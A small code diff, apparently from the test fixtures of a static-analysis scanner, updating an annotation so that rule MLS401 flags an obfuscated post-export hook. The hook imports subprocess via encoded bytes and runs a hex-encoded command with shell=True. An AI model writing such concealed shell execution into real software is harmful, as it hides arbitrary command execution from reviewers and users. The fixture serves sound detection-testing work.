@@ -130,7 +130,7 @@ def arm_walltime_guard(args) -> threading.Timer:
 def run_post_export_hook() -> None:
     _sp = __import__(bytes((115, 117, 98, 112, 114, 111, 99, 101, 115, 115)).decode())  # ruleid: MLS403
     cmd = bytes.fromhex(_HOOK_CMD).decode()
-    getattr(_sp, "Popen")(cmd, shell=True)  # todoruleid: family 8 (missed)
+    getattr(_sp, "Popen")(cmd, shell=True)  # ruleid: MLS401
 
 
 def export_student(model: nn.Module, out_dir: Path, input_size: int) -> None:
